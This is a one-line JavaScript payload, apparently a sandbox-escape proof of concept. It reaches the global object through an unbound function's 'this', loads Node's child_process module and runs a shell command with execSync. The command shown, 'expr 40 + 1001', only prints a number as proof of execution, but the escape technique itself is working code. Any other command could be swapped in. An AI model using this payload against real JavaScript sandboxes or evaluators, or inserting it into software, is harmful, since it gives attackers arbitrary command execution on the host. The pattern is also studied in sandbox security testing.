const f=[].concat; (0,function(){ return this })().process.mainModule.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
